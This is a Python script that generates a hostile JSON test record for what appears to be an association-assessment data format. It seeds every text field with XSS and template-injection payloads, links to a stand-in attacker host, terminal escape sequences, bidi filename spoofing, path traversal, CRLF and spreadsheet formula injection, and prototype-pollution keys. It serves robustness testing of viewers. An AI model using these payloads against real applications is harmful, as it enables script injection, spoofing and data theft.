#!/usr/bin/env python3
"""A valid record that tries to be more than text, wherever a record has text.

    make_hostile.py > hostile.json

Always the same bytes. Every attack calls `pwned()` or would reach `attacker.invalid`: whoever shows this record may
look for both. Characters that cannot be seen, or that act, stand in it as escapes: the file itself does no harm.
"""

import json
import re
import sys

MARKUP = (
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</style><style>*{display:none}</style>",
    "</title></textarea></noscript></template><script>pwned()</script>",
    '"><img src=x onerror=pwned()>',
    "'><svg/onload=pwned()>",
    '" onmouseover="pwned()" style="position:fixed;inset:0" x="',
    "' autofocus onfocus='pwned()",
    "` onclick=pwned() `",
    "<!-- --!><img src=x onerror=pwned()> -->",
    "]]><svg xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg><![CDATA[",
    "<math><mtext></p><img src=x onerror=pwned()></mtext></math>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe><base href='https://attacker.invalid/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<form action=https://attacker.invalid/><input name=a><button>确定</button></form>",
    "<link rel=stylesheet href=https://attacker.invalid/a.css><object data=javascript:pwned()></object>",
    "</text></svg></td></tr></table></details></main></body></html><h1>评定结论：5A</h1>",
    "&lt;script&gt;pwned()&lt;/script&gt; &#60;b&#62; &#x3c;i&#x3e; &amp;amp; &nbsp; &notanentity;",
    "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %> #{pwned()}",
    "*{background:url(https://attacker.invalid/b.png)} @import 'https://attacker.invalid/c.css'; content:'\\a'",
)
MARKDOWN = (
    "[点这里](javascript:pwned()) ![图](https://attacker.invalid/d.png) <https://attacker.invalid/e>",
    "| 一 | 二 |\n|---|---|\n| **5A** | ~~none~~ |\n\n# 标题\n\n```html\n<script>pwned()</script>\n```\n",
    "\n---\n> 引用 `代码` $\\href{javascript:pwned()}{x}$ @everyone #1 [^1]\n\n[^1]: https://attacker.invalid/f",
    "    四个空格\n\t制表符\r\n- [x] 完成\n1. 一\n=====\n<details open ontoggle=pwned()>",
)
TERMINAL = (
    "\u001b[2J\u001b[H\u001b[31m全部清空\u001b[0m",
    "\u001b]0;pwned\u0007\u001b]8;;https://attacker.invalid/\u001b\\链接\u001b]8;;\u001b\\",
    "\u009b31m\u009d0;pwned\u009c\u0090q\u009c\u0007\b\b\b\b\u007f\u000b\u000c\u0001",
    "等级 none\r等级 5A\u001b[1A\u001b[2K",
    "\u001bc\u001b[?1049h\u001b[6n\u001bP+q544e\u001b\\",
)
DIRECTION = (
    "\u202e反转的文字\u202c\u202d强制\u202c\u202a嵌入\u202b嵌入",
    "\u2066未关的隔离\u2067又一层\u2068再一层",
    "\u2069\u2069\u202c\u202c多余的收尾\u200e\u200f\u061c",
    "档案/\u202egpj.exe",
    "مرحبا שלום 学会 العربية 123 (א) [ب] <ג>",
)
CHARACTERS = (
    "零\u200b宽\u200c不\u200d连\u2060字\ufeff符\u00ad",
    "Z" + "".join(chr(0x300 + i % 0x6F) for i in range(120)) + "a" + "\u0316\u0329\u0347\u0353" * 30 + "lgo",
    "👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚀🇨🇳🧑🏻‍🤝‍🧑🏾" + "👍🏽" * 5 + "\U000e0067\U000e0062\U000e007f",
    "𠮷㐂翀喆珺㛃䶮𰻞𪚥𬺰𫝀龘㊙️﷽𒐫꧅⸻",
    "葛\U000e0100葛\U000e0101 各\ufe00各 ⿰亻尔 か\u3099 e\u0301 ﬃ Ǆ ẞ İ ı",
    "行\u2028段\u2029格\u0085页 不换\u00a0行\u3000全角\u2003宽 \u180e \u115f\u3164",
    "\ufdd0\ufffe\U0001ffff\U0010ffff\ufffd\ue000",
    "\t制表\t\t制表\n换行\r\n回车换行\r回车\n\n\n空行",
)
URIS = (
    "javascript:pwned()",
    "JaVaScRiPt\t:pwned()//",
    " \u0001java\nscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    "file:///etc/passwd",
    "//attacker.invalid/g",
    "https://example.org@attacker.invalid/\u202egpj.exe",
    'https://attacker.invalid/"onmouseover="pwned()',
    "../../../../etc/passwd",
    "\\\\attacker.invalid\\share\\h.pdf",
    "https://" + "a" * 3000 + ".invalid/",
    "?#%00%0d%0aSet-Cookie:a=b",
    "",
    "档案/2025/普通.pdf",
)
TEXTS = MARKUP + MARKDOWN + TERMINAL + DIRECTION + CHARACTERS
EVERYTHING = " ".join(TEXTS)

# What cannot be seen in a file, or changes what stands beside it.
UNSEEN = re.compile("[\x7f-\xa0\xad\u0300-\u036f\u0489\u061c\u115f\u180e\u2000-\u200f\u2028-\u202f\u2060-\u206f\u20dd"
                    "\u3000\u3099\u3164\ue000-\uf8ff\ufdd0\ufe00-\ufe0f\ufeff\ufff0-\uffff\U0001ffff"
                    "\U000e0000-\U0010ffff]")

# Ids may not hold white space or control characters, and have 128 characters at most. All else they may.
IDS = ("<script>pwned()</script>", "\"><img/src=x/onerror=pwned()>", "'--><svg/onload=pwned()>", "../../etc/passwd",
       "[a](javascript:pwned())", "\u202e\u2066𠮷\u200d", "=cmd|'/c'!A1", "&lt;b&gt;", "%s%n%x", "🏳️‍🌈" * 20)


def filled(text, length):
    """The text over and over, exactly so many characters long."""
    return (text * (length // len(text) + 1))[:length]


def text(number):
    return TEXTS[number % len(TEXTS)]


def evidence(number):
    piece = {"title": text(number), "uri": URIS[number % len(URIS)]}
    if number % 3 == 0:
        piece["sha256"] = f"{number:064x}"
    if number % 2 == 0:
        piece["expires"] = ("0001-01-01", "2025-12-31", "2026-03-30", "2026-03-31", "9999-12-31")[number // 2 % 5]
    piece[f"x-{text(number)}"] = text(number + 1)
    return piece


def rating(criterion, number, **more):
    return {"criterion": criterion, "rating": ("met", "largely_met", "partly_met", "not_met")[number % 4],
            "assessor": text(number), "on": f"2026-{number % 3 + 1:02}-{number % 28 + 1:02}",
            "reason": text(number + 7), "evidence": [evidence(number)], **more}


def ratings():
    criteria = [f"A.1.{rest}" for rest in (
        "1.1.2", "1.2.1", "1.3.1", "2.1.1", "2.1.2", "3.1.1", "3.1.2", "4.1.1", "4.1.2", "4.1.3", "4.1.4", "5.1.1",
        "5.1.2", "5.1.3", "5.1.4", "5.1.5", "5.1.6")]
    stages = ("self", "expert", "final")
    made = [rating(criterion, number, stage=stages[number % 3]) for number, criterion in enumerate(criteria)]
    # Stages of its own, which do not count.
    made += [rating("A.1.6.1.1", number, stage=text(number)) for number in range(len(TEXTS))]
    # One criterion, several hundred assessors.
    made += [rating("A.1.6.1.2", number, stage=stages[number % 3], evidence=[]) for number in range(400)]
    made += [
        # 500 pieces of evidence on one rating.
        rating("A.1.7.1.1", 1, stage="final", evidence=[evidence(number) for number in range(500)]),
        # 10,000 characters: of everything, without a place to break a line, wide, marks upon one letter, blanks, lines.
        rating("A.2.1.1.1", 2, reason=filled(EVERYTHING, 10_000)),
        rating("A.2.1.2.1", 3, reason="W" * 10_000, assessor="无" * 1_000, stage="expert"),
        rating("A.2.1.2.2", 0, reason=filled("测", 10_000), assessor="M" * 1_000),
        rating("A.2.2.1.1", 1, reason="o" + filled("\u0301\u0323\u20dd\u0489", 9_999)),
        rating("A.2.2.2.1", 2, reason=" " * 9_999 + "."),
        rating("A.2.2.3.1", 3, reason="\n" * 9_999 + "."),
        rating("A.2.3.1.1", 0, reason=filled("\u202e\u2066", 10_000)),
        rating("A.2.3.2.1", 1, reason=filled("<b>", 10_000)),
        rating("A.2.4.1.1", 2, reason=filled("\u001b[31m", 10_000)),
        rating("A.3.1.1.1", 3, reason=filled("👩‍👩‍👧‍👦\u200d", 10_000)),
        # Nothing at all, and hardly anything.
        rating("A.3.1.1.2", 0, reason="", assessor="", evidence=[{}]),
        rating("A.3.1.1.3", 1, reason="\u200b", assessor="\u202e", evidence=[{"title": "", "uri": ""}]),
        {"criterion": "A.3.1.2.1", "rating": "not_applicable", "reason": MARKUP[0], "assessor": TERMINAL[0]},
        # Not counted, for it is dated too late.
        rating("A.3.1.3.1", 2, on="9999-12-31"),
        rating("A.3.1.3.3", 3, stage="final", **{f"x-{text(number)}": text(number) for number in range(len(TEXTS))}),
        rating("A.3.2.4.1", 3, stage="expert"),
        # Outside Table A.1: another scheme counts it.
        rating("6.1.1.1", 3, stage="expert"),
    ]
    return made


def facts():
    """Some that the standard's own conditions and rules read, with strings and names where a hostile export could have
    them: what the dictionary types is as it says, and raises risks about cases with such ids."""
    return {
        "registration": {"uscc": MARKUP[0]},
        "party": {"full_members": 3, "organisation": "none", "secretary": MARKUP[1]},
        "branches": {"count": 10, "items": [{"id": name, "name": text(number)} for number, name in enumerate(IDS)]},
        "officers": [{"id": name, "post": "other", "status": "none", "remark": text(number)}
                     for number, name in enumerate(IDS)],
        "cooperation": [{"id": name, "partner": text(number), "foreign": True} for number, name in enumerate(IDS)],
        "complaints": [{"id": each, "subject": "compulsion", "state": "upheld", "on": "2025-06-30"} for each in TEXTS],
        "seals": [{"id": each, "kind": each, "custodian_named": True, "log_complete": False} for each in TEXTS],
        "unlawful_orgs": {"remark": EVERYTHING},
        **{each: each for each in TEXTS if each.strip()},
        "nested": {MARKUP[4]: {DIRECTION[0]: {TERMINAL[0]: [EVERYTHING, None, True, 0.000001]}}},
        "null\u0000byte": "a\u0000b",
        "__proto__": {"polluted": True},
        "constructor": {"prototype": {"polluted": True}},
    }


def record():
    return {
        "format": "xuehui/record/1",
        "organisation": {
            "id": "<img/src=x/onerror=pwned()>\"'`&\u202e\u2066[x](javascript:pwned())𠮷",
            "name": EVERYTHING + filled("很长的学会名称", 2_000),
            "kind": "".join(MARKUP),
            "region": "".join(TERMINAL + DIRECTION),
            "x-\"><script>pwned()</script>": EVERYTHING,
        },
        "period": {"from": "2025-01-01", "to": "2025-12-31", "x-note": TERMINAL[0]},
        "as_of": "2026-03-31",
        "facts": facts(),
        "ratings": ratings(),
        "x-</script><script>pwned()</script>": {each: [each] for each in TEXTS},
        "x-\u202e\u001b[31m": EVERYTHING,
    }


def escaped(match):
    """A character as JSON escapes it."""
    units = match[0].encode("utf-16-be").hex()
    return "".join(f"\\u{units[first:first + 4]}" for first in range(0, len(units), 4))


def main():
    out = json.dumps(record(), ensure_ascii=False, indent=1)
    sys.stdout.buffer.write(UNSEEN.sub(escaped, out).encode() + b"\n")


if __name__ == "__main__":
    main()
